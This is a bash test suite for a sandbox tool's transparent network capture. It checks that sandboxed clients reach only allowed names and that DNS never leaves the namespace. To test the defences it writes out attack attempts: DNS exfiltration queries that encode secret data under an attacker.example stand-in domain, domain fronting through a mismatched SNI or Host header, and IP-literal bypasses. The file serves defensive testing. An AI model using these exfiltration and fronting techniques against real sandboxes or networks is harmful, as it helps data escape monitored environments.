#!/usr/bin/env bash
# Transparent capture (network.mode proxy, network.capture on by default):
# clients that ignore the proxy variables (plain Python sockets, curl
# --noproxy '*') reach allowed names through the DNS stub's synthetic
# addresses, and nothing else: unlisted names get NXDOMAIN, IP literals,
# addresses the stub never handed out, and a TLS SNI or HTTP Host other
# than the name connected to are refused; no DNS packet leaves the
# namespace. Every check of "nothing happened" looks on the host: the test
# servers' request log and sentinel listeners.
. "$(dirname "$0")/lib.sh"

command -v curl >/dev/null || skip_all "curl missing"
command -v python3 >/dev/null || skip_all "python3 missing"
command -v openssl >/dev/null || skip_all "openssl missing"
if ! wout=$("$WARD" run --net proxy -- /bin/true 2>&1); then
	skip_all "ward run --net proxy does not work here: $wout"
fi

# --- servers the test owns on the host's loopback: HTTP, HTTPS, echo -------
start_http_servers "DNS:secure.test,DNS:site.test" --sni
served() { wc -l <"$T/requests.log"; }

# Sentinels on the host: a UDP and a TCP listener on every address, and
# (root only, where free) the resolver address the sandbox's resolv.conf
# names, 127.0.0.53:53: a stub that forwarded would be seen there.
cat >"$T/sentinel.py" <<'EOF'
import socket, sys, threading, os
d = sys.argv[1]
log = open(d + "/sentinel.log", "a", buffering=1)
socks = []
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind(("0.0.0.0", 0)); t.listen(16)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("0.0.0.0", 0))
socks.append(u)
try:
    r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(("127.0.0.53", 53)); socks.append(r)
    rt = socket.socket(); rt.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    rt.bind(("127.0.0.53", 53)); rt.listen(4)
    resolver = "yes"
except OSError:
    rt = None
    resolver = "no"
def tcp(l):
    while True:
        c, a = l.accept(); log.write("tcp %s\n" % (a,)); c.close()
def udp(s):
    while True:
        b, a = s.recvfrom(4096); log.write("udp %s %r\n" % (a, b[:16]))
for l in [t] + ([rt] if rt else []):
    threading.Thread(target=tcp, args=(l,), daemon=True).start()
for s in socks:
    threading.Thread(target=udp, args=(s,), daemon=True).start()
open(d + "/sentinel.tmp", "w").write("%d %d %s\n" % (t.getsockname()[1], u.getsockname()[1], resolver))
os.rename(d + "/sentinel.tmp", d + "/sentinel")
threading.Event().wait()
EOF
python3 "$T/sentinel.py" "$T" &
at_exit "kill_id TERM $(proc_id "$!")"
for _ in $(seq 100); do [ -e "$T/sentinel" ] && break; sleep 0.1; done
read -r TPORT UPORT RESOLVER <"$T/sentinel"
touch "$T/sentinel.log"
HOSTIP=$(hostname -I 2>/dev/null | awk '{print $1}')

cp "$T/cert.pem" "$WS/"
cat >"$T/pol.json" <<EOF
{ "version": 1,
  "network": { "mode": "proxy",
    "allow": ["site.test:$HP", "secure.test:$SP", "echo.test:$EP", "other.test:$SP", "denied.test:$HP"],
    "deny": ["denied.test"],
    "hosts": { "site.test": "127.0.0.1", "secure.test": "127.0.0.1", "echo.test": "127.0.0.1",
               "other.test": "127.0.0.1", "denied.test": "127.0.0.1", "unlisted.test": "127.0.0.1" },
    "capture_ports": [$HP, $SP, $EP] } }
EOF
W=("$WARD" run -p "$T/pol.json" --)
# The command's output without ward's end-of-run summary of refusals.
wr() { "${W[@]}" "$@" 2>&1 | grep -v '^ward: the proxy refused'; }
# No proxy variables at all: what a client that ignores them sees.
np() { wr env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy "$@"; }

# --- the view -------------------------------------------------------------
check_eq "resolv.conf inside names the DNS stub" "nameserver 127.0.0.53" \
	"$(wr grep -v '^#' /etc/resolv.conf)"
check_eq "/etc/hosts inside holds only the loopback names" \
	"$(printf '127.0.0.1\tlocalhost ward\n::1\tlocalhost ip6-localhost ip6-loopback')" "$(wr cat /etc/hosts)"
check_eq "the proxy variables stay set" "http://127.0.0.1:3128 socks5h://127.0.0.1:1080" \
	"$(wr sh -c 'echo $HTTP_PROXY $ALL_PROXY')"

# --- allowed names, without the proxy variables ---------------------------
check_eq "a synthetic IPv4 address from 198.18.0.0/15 for an allowed name" "198.18." \
	"$(np python3 -c 'import socket; print(socket.gethostbyname("site.test")[:7])')"
check_eq "plain Python socket code reaches the allowed name" "hello-ward plain" \
	"$(np python3 -c "
import socket
s = socket.create_connection(('site.test', $HP), timeout=20)
s.sendall(b'GET /py HTTP/1.1\r\nHost: site.test:$HP\r\nConnection: close\r\n\r\n')
d = b''
while True:
    b = s.recv(4096)
    if not b: break
    d += b
print(d.split(b'\r\n\r\n', 1)[1].decode().strip())")"
check_eq "curl --noproxy '*' over HTTP" "hello-ward plain" \
	"$(np curl -sS --noproxy '*' "http://site.test:$HP/c1")"
check_eq "curl --noproxy '*' over HTTPS (SNI = the name)" "hello-ward tls" \
	"$(np curl -sS --noproxy '*' --cacert cert.pem "https://secure.test:$SP/c2")"
check_eq "IPv6: the AAAA answer is in 2001:2::/48 and reaches the name" "2001:2:: hello-ward plain" \
	"$(np python3 -c "
import socket
a = socket.getaddrinfo('site.test', $HP, socket.AF_INET6, socket.SOCK_STREAM)[0][4][0]
s = socket.create_connection((a, $HP), timeout=20)
s.sendall(b'GET /v6 HTTP/1.1\r\nHost: site.test:$HP\r\nConnection: close\r\n\r\n')
d = b''
while True:
    b = s.recv(4096)
    if not b: break
    d += b
print(a[:8], d.split(b'\r\n\r\n', 1)[1].decode().strip())")"
check_eq "an opaque TCP stream on a captured port other than 80/443" "ward-echo" \
	"$(np python3 -c "
import socket
s = socket.create_connection(('echo.test', $EP), timeout=20)
s.sendall(b'ward-echo'); print(s.recv(100).decode())")"
# 16 MiB both ways through a captured tunnel: bulk flows move by splice(2);
# every byte must arrive, in order, and the half-close must pass.
check_eq "a bulk stream both ways arrives intact (splice relay, half-close)" "ok 16777216" \
	"$(np python3 -c "
import socket, hashlib, threading
data = hashlib.sha256(b'w').digest() * (16 * 1024 * 1024 // 32)
s = socket.create_connection(('echo.test', $EP), timeout=60)
def send():
    s.sendall(data); s.shutdown(socket.SHUT_WR)
t = threading.Thread(target=send); t.start()
got = bytearray()
while True:
    b = s.recv(1 << 20)
    if not b: break
    got += b
t.join()
print('ok' if bytes(got) == data else 'corrupt', len(got))")"
check "the host servers saw the allowed requests with the right Host" \
	bash -c "grep -q '^plain site.test:$HP /c1$' '$T/requests.log' && grep -q '^tls secure.test:$SP /c2$' '$T/requests.log' && grep -q '^plain site.test:$HP /v6$' '$T/requests.log'"

# --- everything else ------------------------------------------------------
before=$(served)
check_not "an unlisted name does not resolve" "${W[@]}" getent hosts unlisted.test
check_not "a denied name does not resolve" "${W[@]}" getent hosts denied.test
check_not "curl --noproxy '*' to an unlisted name fails" \
	"${W[@]}" curl -sS --noproxy '*' --max-time 10 "http://unlisted.test:$HP/u"
check_not "an IP literal (the server's own 127.0.0.1) is refused" \
	"${W[@]}" curl -sS --noproxy '*' --max-time 10 "http://127.0.0.1:$HP/lit"
if [ -n "$HOSTIP" ]; then
	check_not "an IP literal (the host address $HOSTIP) is refused" \
		"${W[@]}" curl -sS --noproxy '*' --max-time 10 "http://$HOSTIP:$HP/lit"
else
	ok_skip "no non-loopback host address"
fi
check_eq "an IP literal on port 80 gets a 403 naming why" \
	"ward: blocked 192.0.2.1:80 (not in network.allow)" \
	"$(np curl -sS --noproxy '*' --max-time 10 "http://192.0.2.1/lit80")"
check "an IP literal on port 443 gets a TLS access_denied alert" \
	grep -qi "alert access denied\|access_denied" <<<"$(np curl -sS --noproxy '*' -k --max-time 10 "https://192.0.2.1/lit443" 2>&1)"
check_not "a synthetic address the stub never handed out is refused" \
	"${W[@]}" curl -sS --noproxy '*' --max-time 10 "http://198.18.7.7:$HP/never"
check_eq "an HTTP Host other than the name is refused (403 with the reason)" \
	"ward: blocked site.test:$HP (Host header unlisted.test is not the name connected to)" \
	"$(np curl -sS --noproxy '*' -H "Host: unlisted.test:$HP" "http://site.test:$HP/h1")"
check_eq "... even when the other name is allowed too" \
	"ward: blocked site.test:$HP (Host header secure.test is not the name connected to)" \
	"$(np curl -sS --noproxy '*' -H "Host: secure.test:$HP" "http://site.test:$HP/h2")"
# Domain fronting by SNI: connect to secure.test's synthetic address, say
# other.test (allowed as well) in the ClientHello.
check "a TLS SNI other than the name is refused (access_denied alert)" grep -q "^refused .*ACCESS_DENIED" <<<"$(np python3 -c "
import socket, ssl
a = socket.gethostbyname('secure.test')
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
s = socket.create_connection((a, $SP), timeout=20)
try:
    t = ctx.wrap_socket(s, server_hostname='other.test'); t.sendall(b'GET /sni HTTP/1.1\r\nHost: other.test\r\n\r\n'); print('connected', t.recv(100))
except ssl.SSLError as e:
    print('refused', e.reason)")"
check_eq "TLS without SNI is refused" "refused" \
	"$(np python3 -c "
import socket, ssl
a = socket.gethostbyname('secure.test')
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
s = socket.create_connection((a, $SP), timeout=20)
try:
    t = ctx.wrap_socket(s); print('connected')
except (ssl.SSLError, OSError):
    print('refused')")"
check_eq "the host servers saw none of the refused attempts" "$before" "$(served)"
check_not "... and no TLS handshake named another server" grep -q '^sni other.test' "$T/requests.log"
# A second request on the same connection could name another Host (domain
# fronting over plain HTTP): the first one is made the only one.
check_eq "a pipelined second request with another Host never reaches the server" "1 /p1" \
	"$(np python3 -c "
import socket
s = socket.create_connection(('site.test', $HP), timeout=20)
s.sendall(b'GET /p1 HTTP/1.1\r\nHost: site.test:$HP\r\nConnection: keep-alive\r\n\r\n'
          b'GET /p2 HTTP/1.1\r\nHost: unlisted.test\r\n\r\n')
d = b''
while True:
    b = s.recv(4096)
    if not b: break
    d += b
print(d.count(b'HTTP/1.1 200'), '/p1')")"
check_not "... and the server saw only the first" grep -q ' /p2$' "$T/requests.log"

# --- DNS: answered inside, never forwarded --------------------------------
cat >"$WS/dnsq.py" <<'EOF'
import socket, struct, sys
# dnsq.py udp|tcp SERVER PORT NAME TYPE: prints the rcode and the answer count
proto, server, port, name, qtype = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
for l in name.split("."):
    q += bytes([len(l)]) + l.encode()
q += b"\0" + struct.pack(">HH", qtype, 1)
try:
    if proto == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
        s.sendto(q, (server, port)); r = s.recv(4096)
    else:
        s = socket.create_connection((server, port), timeout=3)
        s.sendall(struct.pack(">H", len(q)) + q); n = struct.unpack(">H", s.recv(2))[0]; r = s.recv(n)
except OSError as e:
    print("no answer"); sys.exit(0)
print("rcode", r[3] & 15, "answers", struct.unpack(">H", r[6:8])[0])
EOF
check_eq "UDP: an unlisted name is NXDOMAIN" "rcode 3 answers 0" \
	"$(wr python3 dnsq.py udp 127.0.0.53 53 unlisted.test 1)"
check_eq "TCP: an unlisted name is NXDOMAIN" "rcode 3 answers 0" \
	"$(wr python3 dnsq.py tcp 127.0.0.53 53 exfil-c2VjcmV0.example.com 1)"
check_eq "a TXT query carrying data is NXDOMAIN" "rcode 3 answers 0" \
	"$(wr python3 dnsq.py udp 127.0.0.53 53 c2VjcmV0LWRhdGE.attacker.example 16)"
check_eq "an allowed name's A answer over TCP" "rcode 0 answers 1" \
	"$(wr python3 dnsq.py tcp 127.0.0.53 53 site.test 1)"
check_eq "an allowed name's TXT: no such record, no data" "rcode 0 answers 0" \
	"$(wr python3 dnsq.py udp 127.0.0.53 53 site.test 16)"
if [ -n "$HOSTIP" ]; then
	wr python3 dnsq.py udp "$HOSTIP" "$UPORT" leak.example 1 >/dev/null
	wr python3 dnsq.py tcp "$HOSTIP" "$TPORT" leak.example 1 >/dev/null
fi
wr python3 dnsq.py udp 127.0.0.1 "$UPORT" leak.example 1 >/dev/null
wr python3 dnsq.py udp 8.8.8.8 53 leak.example 1 >/dev/null
wr python3 -c 'import socket; socket.getaddrinfo("leak-by-libc.example", 443)' >/dev/null
check_eq "the host's sentinels (TCP, UDP, and 127.0.0.53:53 when free: $RESOLVER) saw nothing" "" \
	"$(cat "$T/sentinel.log")"

out=$("${W[@]}" sh -c 'getent hosts unlisted.test; getent hosts denied.test; exit 0' 2>&1 >/dev/null)
check "a refused name is in the end-of-run summary" \
	grep -q "^ward: the proxy refused 2 destinations: unlisted.test:53 (not in network.allow; the DNS stub answered NXDOMAIN), denied.test:53 (denied.test in network.deny; the DNS stub answered NXDOMAIN)" <<<"$out"

# --- audit ----------------------------------------------------------------
AUDIT="$XDG_STATE_HOME/ward/audit.jsonl"
check "audit: an allowed captured TLS connection" \
	grep -q '"kind":"capture","host":"secure.test","port":'"$SP"',"address":"127.0.0.1","verdict":"allow".*"protocol":"tls"' "$AUDIT"
check "audit: the refused SNI, with the reason" \
	grep -q '"kind":"capture","host":"secure.test","port":'"$SP"',"address":"","verdict":"deny","rule":"TLS server name other.test is not the name connected to"' "$AUDIT"
check "audit: a refused DNS name" \
	grep -q '"kind":"dns","host":"c2vjcmv0lwrhdge.attacker.example","port":53,"address":"","verdict":"deny"' "$AUDIT"
check "audit: the refused IP literal" \
	grep -q '"kind":"capture","host":"127.0.0.1","port":'"$HP"',"address":"","verdict":"deny"' "$AUDIT"

# network.local_ports narrows connects with Landlock: the capture's ports
# and the DNS stub stay reachable.
sed 's/"capture_ports"/"local_ports": [8000], "capture_ports"/' "$T/pol.json" >"$T/pol-lp.json"
check_eq "with network.local_ports, capture still works" "hello-ward plain" \
	"$("$WARD" run -p "$T/pol-lp.json" -- curl -sS --noproxy '*' "http://site.test:$HP/lp" 2>&1)"

# An address the policy names exactly is reached by address, without DNS.
if [ -n "$HOSTIP" ]; then
	python3 -c "
import socket, sys, os
s = socket.socket(); s.bind(('$HOSTIP', 0)); s.listen(4)
open('$T/lit.tmp', 'w').write(str(s.getsockname()[1])); os.rename('$T/lit.tmp', '$T/lit')
while True:
    c, _ = s.accept(); c.sendall(b'literal-ok ' + c.recv(100)); c.close()" &
	at_exit "kill_id TERM $(proc_id "$!")"
	for _ in $(seq 100); do [ -e "$T/lit" ] && break; sleep 0.1; done
	LP=$(cat "$T/lit")
	sed "s/\"allow\": \[/\"allow\": [\"$HOSTIP:$LP\", /; s/\"capture_ports\": \[/\"capture_ports\": [$LP, /" "$T/pol.json" >"$T/pol-lit.json"
	check_eq "an IP literal the policy allows exactly is relayed" "literal-ok hi" \
		"$("$WARD" run -p "$T/pol-lit.json" -- python3 -c "
import socket
s = socket.create_connection(('$HOSTIP', $LP), timeout=20); s.sendall(b'hi'); print(s.recv(100).decode())" 2>&1)"
else
	ok_skip "no non-loopback host address"
fi

# --- capture off ----------------------------------------------------------
sed 's/"capture_ports"/"capture": false, "capture_ports"/' "$T/pol.json" >"$T/pol-off.json"
check_not "network.capture false: resolv.conf is the host's again" \
	"$WARD" run -p "$T/pol-off.json" -- grep -q 127.0.0.53 /etc/resolv.conf
check_not "network.capture false: a client ignoring the proxy gets nowhere" \
	"$WARD" run -p "$T/pol-off.json" -- curl -sS --noproxy '*' --max-time 10 "http://site.test:$HP/off"
check_eq "network.capture false: the proxy still works" "hello-ward plain" \
	"$("$WARD" run -p "$T/pol-off.json" -- curl -sS "http://site.test:$HP/off2" 2>&1)"

# --- bad input -------------------------------------------------------------
printf '{"version":1,"network":{"mode":"proxy","capture_ports":[3128]}}\n' >"$T/bad.json"
out=$("$WARD" run -p "$T/bad.json" -- true 2>&1)
check_eq "a capture port that is the proxy's is refused (exit 125)" 125 "$(status_of "$WARD" run -p "$T/bad.json" -- true)"
check "... naming the port" grep -q "network.capture_ports: port 3128" <<<"$out"
printf '{"version":1,"network":{"mode":"proxy","capture":"yes"}}\n' >"$T/bad2.json"
check_eq "network.capture must be a boolean (exit 125)" 125 "$(status_of "$WARD" run -p "$T/bad2.json" -- true)"

done_testing
